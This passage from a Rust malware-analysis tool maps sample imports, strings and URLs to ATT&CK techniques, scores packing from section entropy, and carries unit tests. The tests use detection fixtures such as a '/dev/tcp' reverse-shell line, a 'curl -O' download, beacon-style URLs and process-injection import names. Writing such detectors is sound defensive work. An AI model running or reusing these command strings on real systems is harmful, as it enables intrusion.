        offset: Some(s.offset + skipped),
        encoding: Some(s.encoding),
    }
}

/// ATT&CK techniques whose rules hold, sorted by id, each with deduplicated evidence.
pub fn techniques(sample: &Facts<'_>, behavior: &Behavior, format: SampleFormat) -> Vec<Technique> {
    let strings = sample.strings;
    let mut facts = Index {
        imports: FxHashMap::default(),
        resolved: FxHashMap::default(),
        behavior,
        resources: sample.resources,
        exports: sample.exports.iter().map(String::as_str).collect(),
        string_hits: FxHashMap::default(),
        url_hits: FxHashMap::default(),
    };
    for imp in sample.imports {
        if let Some(key) = dotted(imp).or_else(|| folded_import(imp, format)) {
            facts.imports.entry(key).or_default().push(imp);
        }
    }
    let dynamic: FxHashSet<&str> = behavior
        .dynamic_apis
        .iter()
        .map(|d| d.name.as_str())
        .collect();
    for s in strings {
        let v = s.value.trim();
        if dynamic.contains(v) {
            facts.resolved.entry(fold(v)).or_insert(s);
        }
    }
    let (pats, ac) = string_patterns();
    if let Some(ac) = ac {
        for s in strings {
            // where benign names that hold a pattern lie in this string (found only when
            // a pattern matched)
            let mut exceptions: Option<Vec<(usize, usize)>> = None;
            for m in ac.find_overlapping_iter(s.value.as_str()) {
                let Some(p) = pats.get(m.pattern().as_usize()) else {
                    continue;
                };
                if facts.string_hits.contains_key(p) {
                    continue;
                }
                let inside = exceptions
                    .get_or_insert_with(|| exception_ranges(&s.value))
                    .iter()
                    .any(|&(a, b)| a <= m.start() && m.end() <= b);
                if !inside {
                    facts.string_hits.insert(p.clone(), (s, m.start()));
                }
            }
        }
    }
    let prefixes = url_prefixes();
    if !prefixes.is_empty() {
        let allowlist = url_allowlist();
        for s in strings {
            if !s.value.contains("://") {
                continue;
            }
            for p in prefixes {
                if facts.url_hits.contains_key(p) {
                    continue;
                }
                if let Some((at, url)) = url_with_host(&s.value, p)
                    .filter(|(_, url)| !allowlist.contains(crate::ioc::IocKind::Url, url))
                {
                    facts.url_hits.insert(p.clone(), (s, at, url.len()));
                }
            }
        }
    }
    let format_name = match format {
        SampleFormat::MachoFat => "macho",
        f => f.as_str(),
    };
    let names = technique_names();
    let mut found: BTreeMap<String, Technique> = BTreeMap::new();
    'rules: for rule in rules() {
        if !rule.formats.is_empty() && !rule.formats.iter().any(|f| f == format_name) {
            continue;
        }
        let mut evidence = Vec::new();
        for cond in &rule.need {
            let hits = matches(&facts, cond);
            if hits.is_empty() {
                continue 'rules;
            }
            evidence.extend(hits);
        }
        for cond in &rule.none {
            if !matches(&facts, cond).is_empty() {
                continue 'rules;
            }
        }
        let t = found
            .entry(rule.technique.clone())
            .or_insert_with(|| Technique {
                id: rule.technique.clone(),
                name: names
                    .get(&rule.technique)
                    .cloned()
                    .unwrap_or_else(|| "(not in the technique list)".into()),
                confidence: Confidence::Low,
                evidence: Vec::new(),
            });
        t.confidence = t.confidence.max(rule.confidence);
        for e in evidence {
            if !t.evidence.contains(&e) {
                t.evidence.push(e);
            }
        }
    }
    found.into_values().collect()
}

/// Entropy from which a section's bytes look compressed or encrypted.
const PACKED_ENTROPY: f64 = 7.2;
/// Entropy from which a section that is not executable looks like a packed payload.
const PAYLOAD_ENTROPY: f64 = 7.6;

/// Whether the parsed file is a Windows driver (native subsystem, or kernel imports).
fn is_driver(parsed: &Parsed) -> bool {
    parsed.pe.as_ref().is_some_and(|p| p.subsystem == "native")
        || parsed.imports.iter().any(|i| {
            let l = i.library.to_ascii_lowercase();
            l == "ntoskrnl.exe" || l == "hal.dll"
        })
}

/// Packing verdict from section names, entropy, the import table and W+X sections. The
/// layouts `packers.txt` lists as benign (an MSVC debug build's `.textbss`, a driver's
/// `INIT`, ...) do not count.
pub fn packer(parsed: &Parsed, format: SampleFormat) -> PackerVerdict {
    let mut packers = Vec::new();
    let mut reasons = Vec::new();
    let mut strong = false;
    let table = packer_table();
    let driver = is_driver(parsed);
    for s in &parsed.sections {
        let bare = s.name.rsplit(':').next().unwrap_or(&s.name);
        if let Some(p) = table.sections.get(&bare.to_ascii_lowercase()) {
            if !packers.contains(p) {
                packers.push(p.clone());
            }
            reasons.push(format!("section {} is a {p} section name", s.name));
            strong = true;
        }
    }
    let mut weak = 0;
    for s in &parsed.sections {
        let bare = s.name.rsplit(':').next().unwrap_or(&s.name);
        let counts = |sign: &str| !table.excused(bare, sign, driver);
        if s.x && s.entropy >= PACKED_ENTROPY && s.raw_size >= 512 && counts("entropy") {
            reasons.push(format!(
                "executable section {} has entropy {:.2}",
                s.name, s.entropy
            ));
            weak += 2;
        } else if !s.x
            && s.entropy >= PAYLOAD_ENTROPY
            && s.raw_size >= 4096
            && format == SampleFormat::Pe
            && counts("entropy")
        {
            reasons.push(format!(
                "section {} holds {} bytes of entropy {:.2} (compressed or encrypted data)",
                s.name, s.raw_size, s.entropy
            ));
            weak += 2;
        }
        if s.wx && counts("wx") {
            reasons.push(format!("section {} is writable and executable", s.name));
            weak += 1;
        }
        if s.x && s.raw_size == 0 && s.virtual_size > 0 && counts("no-bytes") {
            reasons.push(format!(
                "executable section {} has no bytes in the file",
                s.name
            ));
            weak += 1;
        }
    }
    if format == SampleFormat::Pe && parsed.pe.is_some() {
        let funcs = parsed.imports.len();
        if funcs < 10 {
            reasons.push(format!("tiny import table ({funcs} functions)"));
            weak += 1;
        }
    }
    let verdict = if strong || weak >= 3 {
        Packing::Packed
    } else if weak >= 2 {
        Packing::PossiblyPacked
    } else {
        Packing::NotPacked
    };
    PackerVerdict {
        verdict,
        packers,
        reasons,
    }
}

/// T1027.002 (Software Packing) for a `packed` verdict, with its reasons as evidence: high
/// when a packer is named, medium otherwise.
pub fn packing_technique(verdict: &PackerVerdict) -> Option<Technique> {
    if verdict.verdict != Packing::Packed {
        return None;
    }
    let id = "T1027.002";
    Some(Technique {
        id: id.into(),
        name: technique_names()
            .get(id)
            .cloned()
            .unwrap_or_else(|| "(not in the technique list)".into()),
        confidence: if verdict.packers.is_empty() {
            Confidence::Medium
        } else {
            Confidence::High
        },
        evidence: verdict
            .reasons
            .iter()
            .map(|r| Evidence {
                kind: EvidenceKind::Packer,
                value: r.clone(),
                offset: None,
                encoding: None,
            })
            .collect(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An import of `name` from `library`.
    fn import(library: &str, name: &str) -> Import {
        Import {
            library: library.to_string(),
            name: Some(name.to_string()),
            ordinal: None,
            delay: false,
        }
    }

    #[test]
    fn the_go_runtime_imports_are_read() {
        assert!(confidence_table().go_runtime.len() >= 40);
        assert!(is_go_runtime_import(&import("KERNEL32.dll", "WriteFile")));
        assert!(is_go_runtime_import(&import(
            "kernel32.dll",
            "GetThreadContext"
        )));
        // exact names of kernel32.dll: the wide sibling, or another DLL, is not the runtime's
        assert!(!is_go_runtime_import(&import(
            "kernel32.dll",
            "CreateFileW"
        )));
        assert!(!is_go_runtime_import(&import("ntdll.dll", "WriteFile")));
        // the table Go's linker writes, and a C program's few of the same functions
        let mut names: Vec<&String> = confidence_table().go_runtime.iter().collect();
        names.sort();
        let table: Vec<Import> = names
            .iter()
            .map(|n| import("KERNEL32.dll", n.as_str()))
            .collect();
        assert!(is_go_runtime_table(&table));
        assert!(!is_go_runtime_table(&table[..GO_RUNTIME_TABLE_MIN - 1]));
    }

    /// Only an ELF export that can be a Windows API name counts as one it implements: a
    /// C library name (an LD_PRELOAD hook's) does not.
    #[test]
    fn windows_api_names_start_with_a_capital() {
        assert!(names_windows_api("NtWriteVirtualMemory"));
        assert!(names_windows_api("EVP_EncryptInit_ex"));
        assert!(!names_windows_api("readdir"));
        assert!(!names_windows_api("_init"));
        assert!(!names_windows_api(""));
    }

    /// A hundred distinct system calls make a system-call layer, whose system calls (and
    /// only those) are no behaviour; ninety-nine, or the same names from another library,
    /// do not.
    #[test]
    fn a_system_call_layer_imports_a_hundred_system_calls() {
        let calls = |n: usize, library: &str| -> Vec<Import> {
            (0..n)
                .map(|i| import(library, &format!("NtCall{i}")))
                .collect()
        };
        assert!(is_syscall_layer(&calls(100, "ntdll.dll")));
        assert!(is_syscall_layer(&calls(100, "NTDLL.DLL")));
        assert!(!is_syscall_layer(&calls(99, "ntdll.dll")));
        assert!(!is_syscall_layer(&calls(100, "kernel32.dll")));
        // the same call twice counts once
        let mut twice = calls(99, "ntdll.dll");
        twice.push(import("ntdll.dll", "NtCall0"));
        assert!(!is_syscall_layer(&twice));
        let mut layer = calls(100, "ntdll.dll");
        layer.push(import("ntdll.dll", "RtlAllocateHeap"));
        let not = NotBehaviour::of(false, &layer, std::iter::empty());
        assert!(not.covers(&import("ntdll.dll", "NtWriteVirtualMemory")));
        assert!(not.covers(&import("ntdll.dll", "ZwQueryInformationProcess")));
        assert!(!not.covers(&import("ntdll.dll", "RtlAllocateHeap")));
        assert!(!not.covers(&import("ntdll.dll", "NtdllDialogWndProc_W")));
        assert!(!not.covers(&import("kernel32.dll", "NtWriteVirtualMemory")));
        let few = NotBehaviour::of(false, &calls(99, "ntdll.dll"), std::iter::empty());
        assert!(!few.covers(&import("ntdll.dll", "NtWriteVirtualMemory")));
    }

    /// A module exporting a broad slice of the Windows API implements the categories it
    /// exports with its imports; a module exporting fewer table functions implements none.
    #[test]
    fn an_api_layer_implements_the_categories_it_exports() {
        let ntdll = |name: &str| import("ntdll.dll", name);
        let table = api_table();
        let index = |cat: &str| table.order.iter().position(|c| c == cat);
        let injection = index("injection").expect("an injection category");
        // table functions of every category but injection, spelled as exported (A/W)
        let mut others: Vec<String> = table
            .apis
            .iter()
            .filter(|(name, cats)| !cats.contains(&injection) && !name.contains('.'))
            .map(|(name, _)| format!("{name}W"))
            .collect();
        others.sort();
        others.truncate(API_LAYER_MIN);
        let mut exports: Vec<&str> = vec!["WriteProcessMemory", "VirtualAllocEx"];
        exports.extend(others.iter().map(String::as_str).take(API_LAYER_MIN - 2));
        let layer = api_layer_categories(exports.iter().copied());
        assert!(layer.contains(&injection), "{layer:?}");
        assert!(in_categories(&ntdll("NtWriteVirtualMemory"), &layer));
        assert!(in_categories(&ntdll("ZwWriteVirtualMemory"), &layer));
        assert!(!in_categories(&ntdll("NoSuchFunction"), &layer));
        // one injection function exported: that category is not implemented
        let one: Vec<&str> = exports
            .iter()
            .copied()
            .filter(|e| *e != "VirtualAllocEx")
            .chain(others.get(API_LAYER_MIN - 2).map(String::as_str))
            .collect();
        assert_eq!(one.len(), API_LAYER_MIN);
        let layer = api_layer_categories(one.iter().copied());
        assert!(!layer.is_empty());
        assert!(!layer.contains(&injection));
        assert!(!in_categories(&ntdll("NtWriteVirtualMemory"), &layer));
        // one table function short of a layer: nothing is implemented
        let few = api_layer_categories(exports.iter().copied().take(API_LAYER_MIN - 1));
        assert!(few.is_empty());
        assert!(!in_categories(&ntdll("NtWriteVirtualMemory"), &few));
    }

    /// The `export` kind: a shared object exporting two of the C library's file functions
    /// and importing `dlsym` (an LD_PRELOAD hook); one export, or no `dlsym`, is not one.
    #[test]
    fn exports_that_shadow_libc_with_dlsym_are_preload_hooks() {
        let behavior = Behavior::default();
        let hook = |imports: &[Import], exports: &[String]| {
            let facts = Facts {
                imports,
                strings: &[],
                exports,
                resources: &[],
            };
            techniques(&facts, &behavior, SampleFormat::Elf)
                .into_iter()
                .find(|t| t.id == "T1574.006")
        };
        let dlsym = [import("", "dlsym"), import("", "strcmp")];
        let two = ["readdir".to_string(), "readdir64".to_string()];
        let t = hook(&dlsym, &two).expect("a preload hook");
        assert_eq!(t.confidence, Confidence::Medium);
        assert!(t
            .evidence
            .iter()
            .any(|e| e.kind == EvidenceKind::Export && e.value == "readdir64"));
        assert!(hook(&dlsym, &two[..1]).is_none());
        assert!(hook(&dlsym[1..], &two).is_none());
        let facts = Facts {
            imports: &dlsym,
            strings: &[],
            exports: &two,
            resources: &[],
        };
        assert!(techniques(&facts, &behavior, SampleFormat::Pe)
            .iter()
            .all(|t| t.id != "T1574.006"));
    }

    /// The facts of a sample with these strings and nothing else.
    fn strings_only(strings: &[FoundString]) -> Facts<'_> {
        Facts {
            imports: &[],
            strings,
            exports: &[],
            resources: &[],
        }
    }

    /// A pattern deep inside a long string (a Go binary's glued strings) is shown with the
    /// bytes around it and the offset of the first one shown; short strings and early
    /// matches are shown from their start.
    #[test]
    fn string_evidence_shows_the_match() {
        let found = |value: String, encoding: Encoding| FoundString {
            offset: 0x1000,
            encoding,
            section: None,
            value,
            tags: Vec::new(),
        };
        let long = format!(
            "{}usage: curl -O https://example.com/key.txt{}",
            "x".repeat(2000),
            "y".repeat(500)
        );
        let behavior = Behavior::default();
        let strings = [found(long.clone(), Encoding::Ascii)];
        let found_techniques = techniques(&strings_only(&strings), &behavior, SampleFormat::Elf);
        let t = found_techniques
            .iter()
            .find(|t| t.id == "T1105")
            .expect("curl -o names T1105");
        let e = &t.evidence[0];
        assert!(
            e.value.to_ascii_lowercase().contains("curl -o"),
            "{}",
            e.value
        );
        assert_eq!(e.value.len(), EVIDENCE_LEN);
        let at = long.find(&e.value).expect("a window of the string") as u64;
        assert_eq!(e.offset, Some(0x1000 + at));
        // UTF-16LE: the offset counts two bytes per character
        let wide = [found(long.clone(), Encoding::Utf16le)];
        let t = techniques(&strings_only(&wide), &behavior, SampleFormat::Elf);
        let e = &t.iter().find(|t| t.id == "T1105").expect("T1105").evidence[0];
        assert_eq!(e.offset, Some(0x1000 + 2 * at));
        // an early match: the string from its start, as before
        let early = [found(
            format!("curl -O https://example.com/{}", "z".repeat(300)),
            Encoding::Ascii,
        )];
        let t = techniques(&strings_only(&early), &behavior, SampleFormat::Elf);
        let e = &t.iter().find(|t| t.id == "T1105").expect("T1105").evidence[0];
        assert!(e.value.starts_with("curl -O"));
        assert_eq!(e.offset, Some(0x1000));
    }

    /// The `url` kind: a download API with a URL that has a host is T1105 at high
    /// confidence, evidence the URL; with a scheme alone (MFC's `http://`) or an XML
    /// namespace (an allowlisted host) it is only the low-confidence rule.
    #[test]
    fn a_scheme_alone_is_no_address_to_download_from() {
        let imports = [import("wininet.dll", "InternetReadFile")];
        let behavior = Behavior::default();
        let t1105 = |value: &str| {
            let strings = [FoundString {
                offset: 0x40,
                encoding: Encoding::Utf16le,
                section: None,
                value: value.to_string(),
                tags: Vec::new(),
            }];
            let facts = Facts {
                imports: &imports,
                strings: &strings,
                exports: &[],
                resources: &[],
            };
            techniques(&facts, &behavior, SampleFormat::Pe)
                .into_iter()
                .find(|t| t.id == "T1105")
                .map(|t| (t.confidence, t.evidence.last().map(|e| e.value.clone())))
        };
        for url in [
            "http://cdn.example.com/img/logo.gif",
            "https://198.51.100.14/s2/beacon.php",
            "HTTP://[2001:db8::7]/a",
            "http://%s/gate.php?id=%d",
            "GET http://files.example.net/update.exe HTTP/1.1",
        ] {
            let (confidence, evidence) = t1105(url).expect(url);
            assert_eq!(confidence, Confidence::High, "{url}");
            assert_eq!(evidence.as_deref(), Some(url), "{url}");
        }
        for bare in [
            "http://",
            "dhttp://",
            "https:// %s",
            "http://localhost",
            "http://schemas.xmlsoap.org/soap/envelope/",
            "see http://www.w3.org/2001/XMLSchema",
        ] {
            assert_eq!(t1105(bare).map(|t| t.0), Some(Confidence::Low), "{bare}");
        }
        assert_eq!(t1105("no scheme here"), None);
        assert_eq!(
            url_with_host("x https://a.example.org/p\"q\" y", "https://"),
            Some((2, "https://a.example.org/p"))
        );
    }

    /// A pattern inside a benign name of `data/attack-string-exceptions.txt` is no
    /// evidence (Go's `XORKeyStream` holds `xorkey`); the same pattern elsewhere in the
    /// same string still is.
    #[test]
    fn patterns_inside_benign_names_are_not_evidence() {
        let found = |value: &str| FoundString {
            offset: 0,
            encoding: Encoding::Ascii,
            section: None,
            value: value.to_string(),
            tags: Vec::new(),
        };
        let behavior = Behavior::default();
        let t1140 = |value: &str| {
            techniques(&strings_only(&[found(value)]), &behavior, SampleFormat::Elf)
                .iter()
                .any(|t| t.id == "T1140")
        };
        assert!(!t1140("crypto/cipher.XORKeyStream"));
        assert!(!t1140("XORKeyStreamXORKeyStream"));
        assert!(!t1140(
            "golang.org/x/crypto/chacha20.(*Cipher).xorKeyStreamBlocks"
        ));
        assert!(t1140("XORKeyStream xorkey=0x5a"));
        assert!(t1140("var xorKey = 0x5a"));
        assert!(t1140("decrypt_payload"));
    }

    /// `holds_string` finds a pattern anywhere outside the benign words, overlapping
    /// places too.
    #[test]
    fn holds_string_skips_only_the_benign_words() {
        let holds =
            |value: &str, pattern: &str| holds_string(value, &value.to_ascii_lowercase(), pattern);
        assert!(holds("bash -i >& /dev/tcp/192.0.2.1/8080", "/dev/tcp/"));
        assert!(!holds("/dev/tcp/*/*", "/dev/tcp/"));
        assert!(!holds("xx /dev/tcp/*/* yy", "/dev/tcp/"));
        assert!(holds("/dev/tcp/*/* /dev/tcp/%s/%d", "/dev/tcp/"));
        assert!(!holds("crypto/cipher.XORKeyStream", "xorkey"));
        assert!(holds("XORKeyStream xorkey", "xorkey"));
        assert!(!holds("nothing here", "xorkey"));
        assert!(!holds("anything", ""));
        // a pattern whose second place overlaps its first
        assert!(holds("/dev/tcp/*/*/dev/tcp/1", "/dev/tcp/"));
    }

    /// A lower-case API name alone among other strings (`std::system_category`'s
    /// `system`, a Go identifier table) is no resolved API; next to a library name, a
    /// resolver or another API name of the table, it is. Upper-case names need no
    /// neighbour.
    #[test]
    fn word_shaped_api_names_need_a_neighbour() {
        let found = |offset: u64, value: &str, encoding: Encoding| FoundString {
            offset,
            encoding,
            section: None,
            value: value.to_string(),
            tags: crate::sample::strings::tag(value),
        };
        let resolved = |strings: &[FoundString]| -> Vec<String> {
            let mut names: Vec<String> = analyse(&[], strings, SampleFormat::Pe)
                .dynamic_apis
                .into_iter()
                .map(|d| d.name)
                .collect();
            names.sort();
            names
        };
        let a = Encoding::Ascii;
        // libstdc++: "generic", "system", then C++ messages
        let libstdcxx = [
            found(0x100, "generic", a),
            found(0x108, "system", a),
            found(0x110, "basic_string::_M_construct null not valid", a),
        ];
        assert!(resolved(&libstdcxx).is_empty());
        // a resolver's table: the library, then the names
        let table = [
            found(0x100, "ws2_32.dll", a),
            found(0x10c, "connect", a),
            found(0x114, "send", a),
            found(0x11c, "recv", a),
        ];
        assert_eq!(
            resolved(&table),
            ["connect", "recv", "send"].map(String::from)
        );
        // another API name of the table within reach, in UTF-16LE too
        let wide = [
            found(0x200, "WSAStartup", Encoding::Utf16le),
            found(0x228, "socket", Encoding::Utf16le),
        ];
        assert_eq!(resolved(&wide), ["WSAStartup", "socket"].map(String::from));
        // out of reach
        let far = [
            found(0x200, "WSAStartup", a),
            found(0x200 + 10 + 65, "socket", a),
        ];
        assert_eq!(resolved(&far), ["WSAStartup"].map(String::from));
        // two word-shaped names are no anchors for each other
        let words = [found(0x100, "listen", a), found(0x108, "accept", a)];
        assert!(resolved(&words).is_empty());
        // names with capitals stand alone
        assert_eq!(
            resolved(&[found(0x100, "VirtualAlloc", a)]),
            ["VirtualAlloc"].map(String::from)
        );
    }

    #[test]
    fn folding() {
        assert_eq!(fold("CreateFileW"), "CreateFile");
        assert_eq!(fold("RegSetValueExA"), "RegSetValueEx");
        assert_eq!(fold("ZwWriteVirtualMemory"), "NtWriteVirtualMemory");
        assert_eq!(fold("IsDebuggerPresent"), "IsDebuggerPresent");
        assert_eq!(fold("VirtualAllocEx"), "VirtualAllocEx");
        assert_eq!(fold("ShowWindow"), "ShowWindow");
        assert_eq!(fold("Process32FirstW"), "Process32First");
    }

    #[test]
    fn embedded_tables_are_consistent() {
        let rules = parse_rules(tables::ATTACK_RULES).expect("attack-rules.txt parses");
        assert!(rules.len() > 20);
        let names = technique_names();
        for r in &rules {
            assert!(
                names.contains_key(&r.technique),
                "attack-rules.txt line {}: {} is not in attack-techniques.txt",
                r.line,
                r.technique
            );
            assert!(!r.need.is_empty(), "line {}: rule without need", r.line);
            for c in r.need.iter().chain(&r.none) {
                if matches!(c.kind, AtomKind::Category | AtomKind::Resolved) {
                    for a in &c.alternatives {
                        assert!(
                            api_table().order.contains(a),
                            "line {}: unknown category {a}",
                            r.line
                        );
                    }
                }
            }
        }
        for id in names.keys() {
            let ok = id.len() >= 5
                && id.starts_with('T')
                && id[1..5].bytes().all(|b| b.is_ascii_digit())
                && (id.len() == 5 || (id.len() == 9 && id.as_bytes()[5] == b'.'));
            assert!(ok, "malformed technique id {id}");
        }
        assert!(api_table().order.len() >= 9);
        assert!(packer_sections().contains_key("upx0"));
    }

    fn section(name: &str, entropy: f64, w: bool, x: bool) -> super::super::Section {
        super::super::Section {
            name: name.into(),
            long_name: None,
            virtual_address: 0x1000,
            virtual_size: 0x4000,
            raw_offset: 0x400,
            raw_size: 0x4000,
            entropy,
            r: true,
            w,
            x,
            wx: w && x,
        }
    }

    #[test]
    fn packer_verdicts() {
        let upx = Parsed {
            sections: vec![
                section("UPX0", 0.0, true, true),
                section("UPX1", 7.9, true, true),
            ],
            ..Parsed::default()
        };
        let v = packer(&upx, SampleFormat::Pe);
        assert_eq!(v.verdict, Packing::Packed);
        assert_eq!(v.packers, ["UPX"]);
        assert!(v.reasons.iter().any(|r| r.contains("entropy 7.90")));
        let plain = Parsed {
            sections: vec![
                section(".text", 6.1, false, true),
                section(".data", 1.0, true, false),
            ],
            ..Parsed::default()
        };
        assert_eq!(packer(&plain, SampleFormat::Pe).verdict, Packing::NotPacked);
        let crypted = Parsed {
            sections: vec![section(".text", 7.8, false, true)],
            ..Parsed::default()
        };
        assert_eq!(
            packer(&crypted, SampleFormat::Pe).verdict,
            Packing::PossiblyPacked
        );
    }

    fn pe_with(sections: Vec<super::super::Section>, imports: usize, subsystem: &str) -> Parsed {
        Parsed {
            sections,
            imports: (0..imports)
                .map(|i| Import {
                    library: "KERNEL32.dll".into(),
                    name: Some(format!("Function{i}")),
                    ordinal: None,
                    delay: false,
                })
                .collect(),
            pe: Some(super::super::PeInfo {
                subsystem: subsystem.into(),
                ..Default::default()
            }),
            ..Parsed::default()
        }
    }

    #[test]
    fn packer_names_from_the_issue() {
        for (name, packer_name) in [
            (".Upack", "Upack"),
            ("PELOCKnt", "PELock"),
            ("PESHiELD", "PE-SHiELD"),
            ("pebundle", "PEBundle"),
            (".huan", "Huan"),
        ] {
            let p = pe_with(
                vec![
                    section(".text", 6.0, false, true),
                    section(name, 5.0, false, false),
                ],
                40,
                "windows-gui",
            );
            let v = packer(&p, SampleFormat::Pe);
            assert_eq!(v.verdict, Packing::Packed, "{name}");
            assert_eq!(v.packers, [packer_name]);
            let t = packing_technique(&v).expect("T1027.002");
            assert_eq!(
                (t.id.as_str(), t.confidence),
                ("T1027.002", Confidence::High)
            );
            assert!(t.evidence.iter().any(|e| e.value.contains(name)));
        }
    }

    #[test]
    fn high_entropy_data_section_is_a_packing_sign() {
        // The payload sits in a section that is not executable; the stub has few imports.
        let p = pe_with(
            vec![
                section(".text", 6.2, false, true),
                section(".data", 7.93, true, false),
            ],
            4,
            "windows-gui",
        );
        let v = packer(&p, SampleFormat::Pe);
        assert_eq!(v.verdict, Packing::Packed, "{:?}", v.reasons);
        assert!(v
            .reasons
            .iter()
            .any(|r| r.contains(".data") && r.contains("7.93")));
        assert_eq!(
            packing_technique(&v).map(|t| t.confidence),
            Some(Confidence::Medium)
        );
        // With an ordinary import table: possibly packed, and no technique.
        let p = pe_with(p.sections, 60, "windows-gui");
        let v = packer(&p, SampleFormat::Pe);
        assert_eq!(v.verdict, Packing::PossiblyPacked);
        assert!(packing_technique(&v).is_none());
        // Compressed icons in .rsrc are not a sign.
        let p = pe_with(
            vec![
                section(".text", 6.2, false, true),
                section(".rsrc", 7.95, false, false),
            ],
            4,
            "windows-gui",
        );
        assert_eq!(packer(&p, SampleFormat::Pe).verdict, Packing::NotPacked);
    }

    #[test]
    fn benign_layouts_are_not_packing() {
        let mut textbss = section(".textbss", 0.0, true, true);
        textbss.raw_size = 0;
        // An MSVC debug build: .textbss (RWX, no bytes) and few imports.
        let debug = pe_with(
            vec![textbss, section(".text", 6.0, false, true)],
            5,
            "windows-cui",
        );
        let v = packer(&debug, SampleFormat::Pe);
        assert_eq!(v.verdict, Packing::NotPacked, "{:?}", v.reasons);
        // A driver: INIT and PAGE are writable and executable, few kernel imports.
        let mut driver = pe_with(
            vec![
                section(".text", 6.0, false, true),
                section("PAGE", 6.0, true, true),
                section("INIT", 5.0, true, true),
            ],
            6,
            "native",
        );
        assert_eq!(
            packer(&driver, SampleFormat::Pe).verdict,
            Packing::NotPacked
        );
        // The same layout in a user-mode program is still a sign.
        driver.pe = pe_with(Vec::new(), 0, "windows-gui").pe;
        assert_ne!(
            packer(&driver, SampleFormat::Pe).verdict,
            Packing::NotPacked
        );
        // A writable and executable .reloc.
        let reloc = pe_with(
            vec![
                section(".text", 6.0, false, true),
                section(".reloc", 4.0, true, true),
            ],
            3,
            "windows-gui",
        );
        assert_eq!(packer(&reloc, SampleFormat::Pe).verdict, Packing::NotPacked);
        // TCC's stabs debug sections are not ExeStealth.
        let tcc = pe_with(
            vec![
                section(".text", 6.0, false, true),
                section(".stab", 3.0, false, false),
                section(".stabstr", 4.0, false, false),
            ],
            12,
            "windows-cui",
        );
        let v = packer(&tcc, SampleFormat::Pe);
        assert_eq!(v.verdict, Packing::NotPacked);
        assert!(v.packers.is_empty());
    }

    #[test]
    fn category_confidence_follows_the_table() {
        let cat = |imports: &[&str]| {
            let mut c = Category {
                name: "anti-debug".into(),
                imports: imports.iter().map(|s| s.to_string()).collect(),
                resolved: Vec::new(),
                confidence: Confidence::Low,
                reason: String::new(),
            };
            rate(&mut c);
            c
        };
        // What every MSVC CRT imports: low, and the reason says why.
        let crt = cat(&[
            "kernel32.dll!IsDebuggerPresent",
            "kernel32.dll!OutputDebugStringW",
        ]);
        assert_eq!(crt.confidence, Confidence::Low);
        assert!(
            crt.reason.contains("common in benign programs"),
            "{}",
            crt.reason
        );
        let one = cat(&["kernel32.dll!CheckRemoteDebuggerPresent"]);
        assert_eq!(one.confidence, Confidence::Low);
        let two = cat(&[
            "kernel32.dll!CheckRemoteDebuggerPresent",
            "ntdll.dll!NtQueryInformationProcess",
        ]);
        assert_eq!(two.confidence, Confidence::Medium);
        let group = cat(&[
            "kernel32.dll!CheckRemoteDebuggerPresent",
            "ntdll.dll!NtQueryInformationProcess",
            "ntdll.dll!NtSetInformationThread",
            "kernel32.dll!IsDebuggerPresent",
        ]);
        assert_eq!(group.confidence, Confidence::High);
    }

    #[test]
    fn rule_syntax_errors_name_the_line() {
        assert!(parse_rules("need api X")
            .unwrap_err()
            .to_string()
            .contains("line 1"));
        assert!(parse_rules("rule T1055\nneed bogus X")
            .unwrap_err()
            .to_string()
            .contains("line 2"));
        let r = parse_rules("rule T1055 high\nneed 2 string a | b | c\nnone api IsDebuggerPresent")
            .expect("parses");
        assert_eq!(r[0].need[0].min, 2);
        assert_eq!(r[0].none.len(), 1);
    }
}
